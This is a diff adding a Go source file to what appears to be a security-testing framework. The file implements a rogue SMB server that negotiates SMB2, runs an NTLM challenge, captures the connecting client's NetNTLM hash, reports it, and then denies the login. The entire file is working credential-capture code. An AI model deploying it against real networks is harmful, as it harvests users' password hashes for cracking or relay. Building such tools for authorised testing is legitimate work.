@@ -0,0 +1,225 @@
+package facades
+
+import (
+	"bytes"
+	"crypto/rand"
+	"encoding/binary"
+	"io"
+	"net"
+	"time"
+
+	"github.com/yaklang/yaklang/common/log"
+	"github.com/yaklang/yaklang/common/utils"
+)
+
+var (
+	smb1Magic = []byte("\xffSMB")
+	smb2Magic = []byte("\xfeSMB")
+)
+
+const (
+	smb1CommandNegotiate byte = 0x72
+
+	smb2CommandNegotiate    uint16 = 0x0000
+	smb2CommandSessionSetup uint16 = 0x0001
+
+	smb2StatusSuccess                 uint32 = 0x00000000
+	smb2StatusMoreProcessingRequired  uint32 = 0xC0000016
+	smb2StatusAccessDenied            uint32 = 0xC0000022
+	smb2FlagsServerToRedir            uint32 = 0x00000001
+	smb2HeaderSize                           = 64
+	smb2NegotiateSecurityBufferOffset        = smb2HeaderSize + 64
+	smb2SessionSecurityBufferOffset          = smb2HeaderSize + 8
+
+	smb2DialectWildcard uint16 = 0x02FF
+)
+
+// SMB 3.1.1 需要协商上下文，这里只提供不需要预认证完整性的方言
+var smb2SupportedDialects = []uint16{0x0302, 0x0300, 0x0210, 0x0202}
+
+func isSMBHeader(raw []byte) bool {
+	return bytes.HasPrefix(raw, smb1Magic) || bytes.HasPrefix(raw, smb2Magic)
+}
+
+// smbReadPacket 读取一个 NetBIOS 会话消息
+func smbReadPacket(conn net.Conn) ([]byte, error) {
+	header := make([]byte, 4)
+	if _, err := io.ReadFull(conn, header); err != nil {
+		return nil, err
+	}
+	if header[0] != 0x00 {
+		return nil, utils.Errorf("unexpected netbios message type: 0x%x", header[0])
+	}
+	length := int(header[1])<<16 | int(header[2])<<8 | int(header[3])
+	packet := make([]byte, length)
+	if _, err := io.ReadFull(conn, packet); err != nil {
+		return nil, err
+	}
+	return packet, nil
+}
+
+func smbWritePacket(conn net.Conn, packet []byte) error {
+	length := len(packet)
+	_, err := conn.Write(append([]byte{0x00, byte(length >> 16), byte(length >> 8), byte(length)}, packet...))
+	return err
+}
+
+// smb1NegotiateDialect 从 SMB1 NEGOTIATE 请求中找到客户端支持的 SMB2 方言
+func smb1NegotiateDialect(packet []byte) (uint16, bool) {
+	if len(packet) < 35 || packet[4] != smb1CommandNegotiate {
+		return 0, false
+	}
+	dialects := packet[35:]
+	switch {
+	case bytes.Contains(dialects, []byte("SMB 2.???")):
+		return smb2DialectWildcard, true
+	case bytes.Contains(dialects, []byte("SMB 2.002")):
+		return 0x0202, true
+	}
+	return 0, false
+}
+
+// smb2SelectDialect 从 SMB2 NEGOTIATE 请求中选择双方都支持的最高方言
+func smb2SelectDialect(body []byte) uint16 {
+	if len(body) < 36 {
+		return 0
+	}
+	count := int(binary.LittleEndian.Uint16(body[2:4]))
+	offered := map[uint16]bool{}
+	for i := 0; i < count && 36+i*2+2 <= len(body); i++ {
+		offered[binary.LittleEndian.Uint16(body[36+i*2:])] = true
+	}
+	for _, dialect := range smb2SupportedDialects {
+		if offered[dialect] {
+			return dialect
+		}
+	}
+	return 0
+}
+
+// smb2Response 根据请求头生成响应头，request 为 nil 时表示响应 SMB1 NEGOTIATE
+func smb2Response(request []byte, command uint16, status uint32, sessionID uint64, body []byte) []byte {
+	header := make([]byte, smb2HeaderSize)
+	copy(header, smb2Magic)
+	binary.LittleEndian.PutUint16(header[4:], smb2HeaderSize)
+	binary.LittleEndian.PutUint32(header[8:], status)
+	binary.LittleEndian.PutUint16(header[12:], command)
+	binary.LittleEndian.PutUint16(header[14:], 1)
+	binary.LittleEndian.PutUint32(header[16:], smb2FlagsServerToRedir)
+	if len(request) >= smb2HeaderSize {
+		// MessageId、ProcessId 和 TreeId 原样返回
+		copy(header[24:40], request[24:40])
+	}
+	binary.LittleEndian.PutUint64(header[40:], sessionID)
+	return append(header, body...)
+}
+
+func smb2NegotiateResponse(dialect uint16) []byte {
+	securityBuffer := spnegoNegTokenInit()
+	body := make([]byte, 64)
+	binary.LittleEndian.PutUint16(body[0:], 65)
+	// SecurityMode: SMB2_NEGOTIATE_SIGNING_ENABLED
+	binary.LittleEndian.PutUint16(body[2:], 0x0001)
+	binary.LittleEndian.PutUint16(body[4:], dialect)
+	rand.Read(body[8:24])
+	binary.LittleEndian.PutUint32(body[28:], 0x00010000)
+	binary.LittleEndian.PutUint32(body[32:], 0x00010000)
+	binary.LittleEndian.PutUint32(body[36:], 0x00010000)
+	binary.LittleEndian.PutUint64(body[40:], uint64(time.Now().UnixNano()/100+116444736000000000))
+	binary.LittleEndian.PutUint16(body[56:], smb2NegotiateSecurityBufferOffset)
+	binary.LittleEndian.PutUint16(body[58:], uint16(len(securityBuffer)))
+	return append(body, securityBuffer...)
+}
+
+func smb2SessionSetupResponse(securityBuffer []byte) []byte {
+	body := make([]byte, 8)
+	binary.LittleEndian.PutUint16(body[0:], 9)
+	if len(securityBuffer) > 0 {
+		binary.LittleEndian.PutUint16(body[4:], smb2SessionSecurityBufferOffset)
+		binary.LittleEndian.PutUint16(body[6:], uint16(len(securityBuffer)))
+	}
+	return append(body, securityBuffer...)
+}
+
+// smbServe 与客户端完成 SMB2 协商和 NTLM 质询，捕获 NetNTLM 哈希之后拒绝登录并断开连接
+func (f *FacadeServer) smbServe(conn *utils.BufferedPeekableConn) error {
+	capture := f.newNTLMCapture()
+	var id [8]byte
+	rand.Read(id[:])
+	sessionID := binary.LittleEndian.Uint64(id[:]) | 1
+
+	// 一次完整的认证最多需要 SMB1 协商、SMB2 协商和两次 SESSION_SETUP
+	for round := 0; round < 8; round++ {
+		conn.SetDeadline(time.Now().Add(10 * time.Second))
+		packet, err := smbReadPacket(conn)
+		if err != nil {
+			return err
+		}
+
+		if bytes.HasPrefix(packet, smb1Magic) {
+			dialect, ok := smb1NegotiateDialect(packet)
+			if !ok {
+				return utils.Error("smb client does not support smb2")
+			}
+			if err := smbWritePacket(conn, smb2Response(nil, smb2CommandNegotiate, smb2StatusSuccess, 0, smb2NegotiateResponse(dialect))); err != nil {
+				return err
+			}
+			continue
+		}
+		if !bytes.HasPrefix(packet, smb2Magic) || len(packet) < smb2HeaderSize {
+			return utils.Error("invalid smb2 packet")
+		}
+
+		command := binary.LittleEndian.Uint16(packet[12:14])
+		switch command {
+		case smb2CommandNegotiate:
+			dialect := smb2SelectDialect(packet[smb2HeaderSize:])
+			if dialect == 0 {
+				return utils.Error("no supported smb2 dialect offered")
+			}
+			log.Infof("smb2 negotiate dialect 0x%04x with %v", dialect, conn.RemoteAddr())
+			if err := smbWritePacket(conn, smb2Response(packet, command, smb2StatusSuccess, 0, smb2NegotiateResponse(dialect))); err != nil {
+				return err
+			}
+		case smb2CommandSessionSetup:
+			body := packet[smb2HeaderSize:]
+			if len(body) < 24 {
+				return utils.Error("invalid smb2 session setup request")
+			}
+			offset, length := int(binary.LittleEndian.Uint16(body[12:14])), int(binary.LittleEndian.Uint16(body[14:16]))
+			if offset+length > len(packet) {
+				return utils.Error("invalid smb2 session setup security buffer")
+			}
+			blob := packet[offset : offset+length]
+			msg, typ := findNTLMMessage(blob)
+			switch typ {
+			case 1:
+				challenge, err := capture.Challenge(msg)
+				if err != nil {
+					return err
+				}
+				if !bytes.HasPrefix(blob, ntlmSignature) {
+					challenge = spnegoNegTokenResp(challenge)
+				}
+				rsp := smb2Response(packet, command, smb2StatusMoreProcessingRequired, sessionID, smb2SessionSetupResponse(challenge))
+				if err := smbWritePacket(conn, rsp); err != nil {
+					return err
+				}
+			case 3:
+				hash, err := capture.Authenticate(msg)
+				if err != nil {
+					return err
+				}
+				if hash != nil {
+					f.triggerNTLMNotification(conn.GetOriginConn(), "", hash)
+				}
+				return smbWritePacket(conn, smb2Response(packet, command, smb2StatusAccessDenied, sessionID, smb2SessionSetupResponse(nil)))
+			default:
+				return utils.Error("smb2 session setup without ntlmssp token")
+			}
+		default:
+			return utils.Errorf("unsupported smb2 command: 0x%x", command)
+		}
+	}
+	return utils.Error("too many smb2 requests")
+}